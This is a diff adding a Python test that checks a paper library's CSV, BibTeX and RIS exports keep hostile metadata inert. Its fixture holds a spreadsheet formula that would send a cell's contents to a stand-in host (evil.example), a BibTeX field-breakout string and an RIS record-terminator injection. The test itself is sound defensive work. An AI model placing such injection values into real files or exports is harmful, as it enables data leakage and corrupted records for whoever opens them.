@@ -221,6 +221,32 @@ def test_bibtex_text_reads_back_as_written_and_keys_fold_accents(store: Store) -
     ]
 
 
+def test_hostile_paper_data_stays_data_in_every_export(store: Store) -> None:
+    """A title a spreadsheet would run as a formula, a category that closes its BibTeX
+    field and opens another, and one that ends its RIS record: each stays one value."""
+    store.upsert_papers(
+        [
+            Paper(
+                "2604.00001",
+                '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+                "An abstract.",
+                ["@Mallory", "-Eve"],
+                categories=["cs.LG}, note = {INJECTED-BIB}, x = {", "cs.AI\nER  - \nTY  - JOUR"],
+                published="2026-04-01",
+            )
+        ]
+    )
+    ada = _user(store, "ada")
+    rows = list(csv.reader(io.StringIO(_export(store, ada, ["2604.00001"], "csv"))))
+    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    assert rows[1][2] == "'@Mallory; -Eve"
+    [entry] = bibtexparser.parse_string(_export(store, ada, ["2604.00001"], "bibtex")).entries
+    assert "note" not in entry.fields_dict and "x" not in entry.fields_dict
+    assert "INJECTED-BIB" in entry["primaryClass"]
+    [record] = rispy.loads(_export(store, ada, ["2604.00001"], "ris"))
+    assert record["keywords"][1] == "cs.AI ER - TY - JOUR"
+
+
 def test_ris_csv_and_json_exports(store: Store) -> None:
     ada = _user(store, "ada")
     ids = ["2608.19880", "2603.01234"]
